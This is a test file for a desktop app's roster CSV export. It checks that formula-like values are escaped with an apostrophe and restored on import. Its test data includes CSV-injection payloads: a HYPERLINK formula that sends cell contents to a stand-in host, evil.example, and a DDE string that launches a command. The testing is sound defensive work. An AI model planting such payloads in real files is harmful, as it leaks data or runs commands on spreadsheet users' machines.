/**
 * The roster CSV as another tool reads it (csv-parse, as a script or an
 * address book would): phone numbers and chat handles come out exactly as
 * typed, and only a value a spreadsheet would run as a formula is kept as
 * text with an apostrophe, which an import takes off again.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { rosterCsv } from '../../../electron/people/roster-export.js';
import { readRosterCsv } from '../../../electron/people/roster-csv.js';
import type { PersonView } from '../../../shared/projection/views.js';

function person(fields: Partial<PersonView>): PersonView {
  return { id: 'person-1', name: 'Ana Lima', team: '', phone: '', email: '', chat: '', notes: '', onCall: false, phones: [], emails: [], updatedAt: 0, updatedBy: 'Dana', ...fields };
}

/** The export's cells for one person, as a CSV reader sees them, by column name. */
function cellsOf(fields: Partial<PersonView>): Record<string, string> {
  const [record] = parse(rosterCsv([person(fields)]), { bom: true, columns: true }) as Record<string, string>[];
  return record!;
}

/** What an import of the export gives back for that person. */
function roundTrip(fields: Partial<PersonView>) {
  return readRosterCsv(rosterCsv([person(fields)])).entries[0]?.fields;
}

const plainValues: Partial<PersonView>[] = [
  { phone: '+34 600 111 222', chat: '@ana' },
  { phone: '+1 (555) 010-9999', chat: '@ana.lima:matrix.example.org' },
  { phone: '-1', chat: '@ana_lima-2' },
  { phone: '+44.20.7946.0958', notes: '+351/912 345 678' },
];

const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1)', '@SUM(1)', '-1+1', '+cmd|\' /C calc\'!A0', '-A1', '\t=1+1', '\r=1+1', '=1'];

describe('the roster CSV as other tools read it', () => {
  it.each(plainValues)('writes phone numbers and handles exactly as typed: %o', (fields) => {
    const cells = cellsOf(fields);
    for (const [field, value] of Object.entries(fields)) expect(cells[field]).toBe(value);
    expect(roundTrip(fields)).toMatchObject(fields);
  });

  it.each(formulas)('keeps %j as text a spreadsheet will not run, and imports it back as typed', (formula) => {
    const cells = cellsOf({ notes: formula, team: formula });
    expect(cells.notes).toBe(`'${formula}`);
    expect(cells.team).toBe(`'${formula}`);
    // An import reads every line end as a line feed, a carriage return too.
    expect(roundTrip({ notes: formula })).toMatchObject({ notes: formula.replace(/\r/g, '\n') });
  });

  it('gives back a value that itself starts with an apostrophe before a formula sign', () => {
    for (const notes of ["'=1", "'+34 600", "''@x", "'plain", "it's"]) {
      expect(roundTrip({ notes })).toMatchObject({ notes });
    }
  });
});
